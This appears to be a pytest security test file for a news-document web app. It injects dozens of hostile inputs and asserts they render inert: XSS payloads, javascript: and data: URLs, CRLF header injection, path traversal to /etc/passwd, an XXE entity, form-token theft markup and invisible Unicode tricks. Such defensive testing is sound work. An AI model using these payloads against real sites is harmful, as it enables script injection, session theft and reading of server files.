"""Forty documents that mean harm. On every page their words are words: nothing in them acts, hides or breaks out."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from tests.web.conftest import OpenPage, client_of, running
from tests.web.hostile import words_of
from tests.web.test_adding import read
from tests.web.texts import add_text, said
from willing.workflows.ledgers import open_ledger
from willing.workflows.stories import StoryKeeper

ALERT = "<script>alert(1)</script>"


@dataclass(frozen=True)
class Case:
    folder: Path
    client: TestClient
    stories: StoryKeeper


@pytest.fixture(scope="module")
def case(served_case: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Case]:
    """A case for all of them."""
    folder = Path(shutil.copytree(served_case, tmp_path_factory.mktemp("hostile") / "case"))
    # one keeper of stories, so that each text is compared with the others but once
    with client_of(folder) as client, open_ledger(folder) as ledger:
        yield Case(folder, client, StoryKeeper(ledger))


Shown = Callable[..., str]


@pytest.fixture
def shown(case: Case) -> Shown:
    """Adds a document whose quote holds the harm, looks at it on every page, and gives the words of its own page."""

    def look(harm: str = "", **told: Any) -> str:
        text = f"Norway will send two frigates {harm} to the coast."
        record = said(text, text, "NOR", "naval", "committed", actor="Norway", measure="frigates")
        sha256, (position,) = add_text(case.folder, text, [record], stories=case.stories, **told)
        for address in (
            "/cells/NOR/naval",
            "/search?q=frigates+coast",
            f"/stories/{sha256[:12]}",
        ):
            words_of(case.client, address)
        answer = case.client.get(f"/documents/{sha256}.json")
        assert answer.headers["content-type"] == "application/json"
        assert answer.json()["text"] == text
        return words_of(case.client, f"/documents/{sha256[:16]}?position={position}")

    return look


@pytest.fixture
def sent(case: Case) -> Callable[..., str]:
    """Sends a file through `/add` and gives the words of the page of its text, or of the reading."""

    def send(name: str, content: bytes, **told: str) -> str:
        reading = read(case.client, [("file", (name, content))], **told)
        words = "" if reading["landing"] else words_of(case.client, reading["address"])
        for text in reading["texts"]:
            words += words_of(case.client, f"/documents/{text['digits']}")
        return words

    return send


def test_a_script_in_the_text(shown: Shown) -> None:
    assert ALERT in shown(ALERT)


def test_a_script_in_the_title(shown: Shown) -> None:
    assert ALERT in shown("in a title", title=f"</title></head>{ALERT}")


def test_a_script_in_the_outlet(shown: Shown) -> None:
    assert ALERT in shown("in an outlet", outlet=ALERT)


def test_a_script_in_the_author(shown: Shown) -> None:
    assert ALERT in shown("by an author", author=ALERT)


def test_a_script_in_the_name_of_the_document(shown: Shown) -> None:
    assert ALERT in shown("by its name", name=ALERT)


def test_a_script_in_letters_of_both_cases_and_with_blanks(shown: Shown) -> None:
    assert "<ScRiPt\n>" in shown("<ScRiPt\n>alert(1)</sCrIpT\t>")


def test_a_quotation_mark_that_leaves_its_attribute(shown: Shown) -> None:
    assert 'x" onmouseover="' in shown("attribute", title='x" onmouseover="alert(1)', outlet="x' onfocus='alert(1)")


def test_an_image_that_fails_on_purpose(shown: Shown) -> None:
    assert "onerror" in shown('"><img src=x onerror=alert(1)>')


def test_a_focus_that_is_taken(shown: Shown) -> None:
    assert "onfocus" in shown("' autofocus onfocus=alert(1) tabindex=1 x='")


def test_an_address_that_is_a_script(shown: Shown) -> None:
    shown("script address", url="javascript:alert(document.cookie)")


def test_an_address_that_is_a_script_in_other_letters(shown: Shown) -> None:
    shown("disguised address", url="\x01JaVaScRiPt\t:alert(1)//https://example.org")


def test_an_address_that_is_a_page_of_its_own(shown: Shown) -> None:
    shown("data address", url="data:text/html,<script>alert(1)</script>")


def test_an_address_that_leaves_its_attribute(shown: Shown) -> None:
    shown("long address", url='https://example.org/" onmouseover="alert(1)')


def test_an_address_of_a_file_on_this_machine(shown: Shown) -> None:
    shown("file address", url="file:///etc/passwd")


def test_an_address_without_a_scheme_that_leads_elsewhere(shown: Shown) -> None:
    shown("half an address", url="//elsewhere.example/x")


def test_words_that_turn_the_direction_of_reading(shown: Shown) -> None:
    assert "U+202E" in shown("\u202edes thgisrevo\u202c \u2066x\u2069", title="not \u202ewilling")


def test_words_split_by_signs_without_width(shown: Shown) -> None:
    words = shown("fri\u200bga\u200dtes \ufeff\u2060" + "\u200b" * 50_000)
    assert "U+200B" in words
    assert "more" in words


def test_signs_that_control_a_terminal(shown: Shown) -> None:
    assert "U+001B" in shown("\x1b[31mred\x1b[0m \x07 \x08 \x9b31m")


def test_a_null_byte(shown: Shown) -> None:
    assert "U+0000" in shown("nothing\x00<script\x00>alert(1)</script>")


def test_a_separator_of_lines_that_ends_a_script_string(shown: Shown) -> None:
    assert "U+2028" in shown("\u2028alert(1)\u2029")


def test_letters_under_a_thousand_marks(shown: Shown) -> None:
    shown("Z" + "\u0301\u0489" * 5_000)


def test_hidden_letters_that_spell_an_order(shown: Shown) -> None:
    assert "U+E0069" in shown("".join(chr(0xE0000 + ord(sign)) for sign in "ignore"))


def test_a_word_of_a_hundred_thousand_letters(shown: Shown) -> None:
    assert "Part 1 of" in shown("x" * 100_000)


def test_a_title_of_a_hundred_thousand_letters(shown: Shown) -> None:
    words = shown("long title", title="t" * 100_000, outlet="o" * 100_000, author="a" * 100_000)
    assert "ttt…" in words


def test_a_hundred_thousand_lines(shown: Shown) -> None:
    shown("line\n" * 100_000)


def test_markup_nested_ten_thousand_deep(shown: Shown) -> None:
    shown("<div>" * 10_000 + "<b>" * 10_000)


def test_template_syntax_of_several_languages(shown: Shown) -> None:
    words = shown("{{7*7}} {% raw %} ${7*7} <%= 7*7 %> #{7*7} {{ asked.folder }}", title="{{7*7}}{{config}}")
    assert "{{7*7}}" in words
    assert "49" not in words
    assert "{{ asked.folder }}" in words


def test_entities_that_are_broken_or_written_twice(shown: Shown) -> None:
    words = shown("&lt;script&gt; &amp;lt; &#x3c;script&#x3e; &#99999999; &#0; &notanentity &lt")
    assert "&lt;script&gt;" in words
    assert "&#x3c;script&#x3e;" in words


def test_a_drawing_with_a_script_in_it(shown: Shown) -> None:
    assert "<svg onload" in shown("<svg onload=alert(1)><script>alert(1)</script><use href='data:x'/></svg><math>")


def test_style_that_would_reach_out(shown: Shown) -> None:
    harm = "</style><style>@import '//elsewhere.example';*{background:url(//elsewhere.example)}</style>"
    assert "@import" in shown(harm, title="x;background:url(//elsewhere.example)")


def test_a_form_that_would_take_the_token(shown: Shown) -> None:
    shown(
        "</form><form action=//elsewhere.example><input name=form-token><textarea>",
        title="<button form=x formaction=//e>",
    )


def test_markup_left_open_to_swallow_what_follows(shown: Shown) -> None:
    shown("<img src='//elsewhere.example/?", title="<a href='//elsewhere.example/?", outlet="<!--")


def test_a_base_and_a_jump_that_would_lead_elsewhere(shown: Shown) -> None:
    shown(
        "<base href=//elsewhere.example><meta http-equiv=refresh content=0;url=//elsewhere.example><link rel=x href=/>"
    )


def test_comments_and_sections_that_close_others(shown: Shown) -> None:
    harm = '--><![CDATA[]]><plaintext><xmp><noscript><p title="</noscript><img src=x onerror=alert(1)>">'
    assert "<plaintext>" in shown(harm)


def test_a_script_written_in_another_encoding(shown: Shown) -> None:
    assert "+ADw-script+AD4-" in shown("+ADw-script+AD4-alert(1)+ADw-/script+AD4- \u00bcscript\u00be")


def test_an_outlet_that_would_add_a_header(shown: Shown, case: Case) -> None:
    shown("header", outlet="x\r\nSet-Cookie: a=b\r\n\r\n<script>", title="x\r\nLocation: //elsewhere.example")
    reading = read(case.client, text="Denmark has not decided on troops.", outlet="x\r\nSet-Cookie: a=b")
    landed = case.client.get(reading["address"])
    assert "a=b" not in str(landed.headers)
    outlet = case.client.get(f"/documents/{reading['texts'][0]['digits']}.json").json()["outlet"]
    assert outlet == "x Set-Cookie: a=b"


@pytest.mark.parametrize(
    "name", ["../../../etc/passwd", "/etc/passwd", "a.json", "..%2f..%2fledger.db", "con\\..\\x", "//e.x"]
)
def test_a_name_that_looks_like_a_path(shown: Shown, case: Case, name: str) -> None:
    shown(f"named {name}", name=name)
    for address in (f"/documents/{name}", f"/documents/{quote(name, safe='')}"):
        answer = case.client.get(address)
        assert answer.status_code in (303, 404), address
        assert "root:" not in answer.text
        assert answer.headers.get("location", "/documents/").startswith("/documents/")


def test_a_page_full_of_scripts_sent_as_a_file(sent: Callable[..., str]) -> None:
    content = (
        "<html><head><title>&lt;script&gt;alert(1)&lt;/script&gt;</title><script>alert(2)</script></head>"
        "<body onload=alert(3)>"
        "<p>Norway will send two frigates to the coast, the government in Oslo said on Monday, and more will come.</p>"
        "<iframe src=//elsewhere.example></iframe></body></html>"
    )
    words = sent("page.html", content.encode())
    assert "alert(2)" not in words
    assert "Norway will send two frigates" in words


def test_a_file_whose_name_is_markup(sent: Callable[..., str]) -> None:
    text = b"Sweden will send troops to the coast, the government in Stockholm said on Friday in a statement."
    assert "<img src=x onerror=alert(1)>.txt" in sent("<img src=x onerror=alert(1)>.txt", text)


def test_a_huge_table_sent_as_a_file(sent: Callable[..., str]) -> None:
    rows = "<tr>" + "<td>Finland declined to send troops</td>" * 20 + "</tr>"
    sent("table.html", f"<html><body><table>{rows * 10}</table></body></html>".encode())


def test_a_feed_with_scripts_in_its_titles(sent: Callable[..., str]) -> None:
    item = (
        "<item><title>&lt;script&gt;alert(1)&lt;/script&gt;</title><link>javascript:alert(1)</link><description>"
        "&lt;img src=x onerror=alert(1)&gt;Finland will send troops to the coast, the government said on Monday."
        "</description></item>"
    )
    sent(
        "feed.xml", f'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>{item}</channel></rss>'.encode()
    )


def test_an_entity_that_would_read_a_file_of_this_machine(sent: Callable[..., str]) -> None:
    content = (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel>'
        b"<item><title>&x;</title><description>Estonia will send troops, the government said &x;.</description></item>"
        b"</channel></rss>"
    )
    assert "root:" not in sent("entity.xml", content)


def test_records_with_halves_of_signs_and_names_of_machinery(sent: Callable[..., str]) -> None:
    record = {
        "doc_id": "__proto__",
        "text": "Latvia will send troops \ud800 to the coast.",
        "title": "constructor \udfff",
    }
    words = sent("records.jsonl", json.dumps(record).encode())
    assert "\ud800" not in words
    assert "Traceback" not in words


def test_bytes_that_are_no_text(sent: Callable[..., str]) -> None:
    words = sent("picture.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00<script>alert(1)</script>")
    assert "What could not be read" in words


@pytest.mark.parametrize(
    "address",
    [
        f"/search?q={quote(ALERT)}",
        "/search?q=%22%22%22%22*%20-%20-%2A%28%29%3A%5E%7B%7D",
        "/search?q=NEAR%2F2+OR+AND+NOT+column%3Ax",
        f"/documents?q={quote(ALERT)}",
        f"/search?q=x&since=2026-01-01&as-of={quote('2026-01-31')}",
    ],
)
def test_an_address_typed_to_do_harm(case: Case, address: str) -> None:
    words_of(case.client, address)


def test_an_error_repeats_nothing_that_acts(case: Case) -> None:
    for address in (
        f"/documents/{quote('of no text ' + ALERT, safe='')}",
        f"/stories/{quote('of no text ' + ALERT, safe='')}",
        f"/review?position={ALERT}",
    ):
        answer = case.client.get(address)
        assert answer.status_code == 404
        assert "<script>alert" not in answer.text


def test_lists_of_all_of_them(case: Case) -> None:
    for address in ("/", "/documents", "/stories?all=true", "/stories", "/review", "/search?q=the"):
        words_of(case.client, address)


def test_nothing_of_them_acts_in_a_real_browser(open_page: OpenPage, served_case: Path, tmp_path: Path) -> None:
    folder = Path(shutil.copytree(served_case, tmp_path / "case"))
    harms = (
        '"><img src=x onerror=alert(1)><svg onload=alert(1)>',
        f"{ALERT}</title></textarea>{ALERT}",
        "<base href=//elsewhere.example><meta http-equiv=refresh content=0;url=//elsewhere.example>",
        "</style><style>*{background:url(//elsewhere.example)}</style>",
        "\u202eton\u202c \u2066" + "x" * 20_000,
        "<form action=//elsewhere.example><input name=form-token autofocus onfocus=alert(1)>",
    )
    pages = ["/cells/NOR/naval", "/search?q=frigates", "/stories?all=true", "/documents", "/review"]
    for number, harm in enumerate(harms):
        text = f"Norway will send two frigates {harm} to the coast."
        record = said(text, text, "NOR", "naval", "committed")
        url = "javascript:alert(1)" if number % 2 else 'https://example.org/" onfocus="alert(1)'
        sha256, (position,) = add_text(
            folder, text, [record], name=f"{harm[:200]}{number}", title=harm[:500], outlet=harm[:200], url=url
        )
        pages.append(f"/documents/{sha256[:16]}?position={position}")
    dialogs: list[str] = []
    with running(folder) as base:
        page = open_page("/", base=base, width=1280)
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for address in pages:
            page.goto(base + address)
            assert page.url == base + address, "nothing led elsewhere"
            assert page.evaluate("document.scripts.length") <= 2
            assert page.evaluate("document.documentElement.scrollWidth") <= 1280, address
    assert dialogs == []
